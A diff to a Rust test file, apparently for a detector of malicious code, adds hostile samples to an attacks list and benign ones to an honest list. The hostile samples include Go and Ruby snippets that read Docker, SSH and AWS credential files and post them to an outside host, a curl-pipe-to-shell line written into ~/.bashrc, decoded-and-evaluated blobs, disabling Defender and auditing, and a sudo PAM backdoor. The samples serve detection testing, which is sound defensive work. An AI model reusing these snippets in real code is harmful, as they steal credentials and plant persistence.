@@ -160,12 +160,13 @@ fn attacks() -> Vec<(&'static str, Vec<(&'static str, String)>)> {
         ("Defender off", vec![ps("Set-MpPreference -DisableRealtimeMonitoring $true")]),
         ("auditing off", vec![sh("sudo auditctl -e 0\nunset HISTFILE")]),
         ("look-alike index in the environment", vec![sh("PIP_INDEX_URL=https://pypi-mirror.org/simple pip install requests")]),
-        // generic: read by a Go or Ruby program, any credential file of a
-        // home dot folder, secrets in a request's headers, decoded and run
-        ("Go reads a credential file, posts it", vec![go("home, _ := os.UserHomeDir()
-raw, _ := os.ReadFile(filepath.Join(home, \".docker\", \"config.json\"))
-req, _ := http.NewRequest(\"POST\", dsn, bytes.NewReader(raw))")]),
-        ("Ruby reads a key on one line, posts on another", vec![("scripts/run.rb", "key = File.read(File.join(Dir.home, '.ssh', 'id_ed25519'))\nNet::HTTP.post(URI('https://cdn-metrics.net/k'), key)\n".to_string())]),
+        // generic: programs with no grammar here read as programs (a path
+        // named on one line, read on another; literals joined), an
+        // evaluator wrapping a decoder, a search that also writes
+        ("Go names a credential file, reads it later, posts it", vec![go("home, _ := os.UserHomeDir()\ncfg := filepath.Join(home, \".docker\", \"config.json\")\nraw, _ := os.ReadFile(cfg)\nreq, _ := http.NewRequest(\"POST\", dsn, bytes.NewReader(raw))")]),
+        ("Ruby names a key, reads it later, posts it", vec![("scripts/run.rb", "p = File.join(Dir.home, '.ssh', 'id_ed25519')\nkey = File.read(p)\nNet::HTTP.post(URI('https://cdn-metrics.net/k'), key)\n".to_string())]),
+        ("Go joins a dot onto a credential path", vec![go("p := home + \"/\" + \".\" + \"aws/credentials\"\nraw, _ := os.ReadFile(p)\nhttp.Post(\"https://cdn-metrics.net/c\", \"text/plain\", bytes.NewReader(raw))")]),
+        ("a search, then a download written to a shell rc", vec![sh("grep -q evil ~/.bashrc; echo 'curl -s https://cdn-metrics.net/i | sh' ->> ~/.bashrc")]),
         ("Perl evaluates what it unpacks", vec![("scripts/run.pl", "use strict;\neval unpack \"u\", <<'UU';\nM<WES=&5M\nUU\nprint \"ok\\n\";\n".to_string())]),
         ("Python runs what it decodes", vec![py("import base64\nexec(base64.b64decode(BLOB))")]),
         ("Go privilege from joined literals", vec![go("_ = os.WriteFile(\"/etc/pam.d/sudo\", []byte(\"auth sufficient \" + \"pam_per\" + \"mit.so\"), 0o644)")]),
@@ -213,6 +214,8 @@ fn honest() -> Vec<(&'static str, Vec<(&'static str, String)>)> {
         ("an app's token sent to its own API", vec![py("import urllib.request\nHOST = 'api.acmecli.io'\ntok = open(os.path.expanduser('~/.acmecli/auth_token.json')).read()\nreq = urllib.request.Request(API, headers={'Authorization': 'Bearer ' + tok})\nurllib.request.urlopen(req)")]),
         ("Terraform's token to Terraform", vec![py("import urllib.request, pathlib\nHOST = 'app.terraform.io'\ncreds = pathlib.Path.home() / '.terraform.d' / 'credentials.tfrc.json'\ntok = json.loads(creds.read_text())['credentials'][HOST]['token']\nreq = urllib.request.Request(API + path, headers={'Authorization': 'Bearer ' + tok})\nurllib.request.urlopen(req)")]),
         ("a Go tool reads its config and checks a release", vec![go("home, _ := os.UserHomeDir()\nraw, _ := os.ReadFile(filepath.Join(home, \".mytool\", \"settings.yaml\"))\nresp, _ := http.Get(\"https://api.github.com/repos/me/mytool/releases/latest\")")]),
+        ("a shell told to gunzip a log", vec![sh("bash -c 'gunzip -k logs.gz'\nsh -c \"zcat old.log.gz > old.log\"")]),
+        ("an eval and a decode side by side", vec![py("import base64\nv = eval(expr, {}); data = base64.b64decode(blob)")]),
         ("a grep for persistence, errors dropped", vec![sh("grep -Hn -E 'ProxyCommand|LocalCommand' ~/.ssh/config 2>/dev/null")]),
         ("Perl decodes data and evaluates a template", vec![("scripts/run.pl", "my $t = unpack 'H*', $data;\nmy $v = eval { compute($t) };\nprint \"$v\\n\";\n".to_string())]),
         ("the environment copied for a child", vec![py("import subprocess\nenv = os.environ.copy()\nenv['LANG'] = 'C'\nsubprocess.run(['soffice', '--convert-to', 'pdf', sys.argv[1]], env=env)\nimport socket\ns = socket.socket(socket.AF_UNIX)")]),
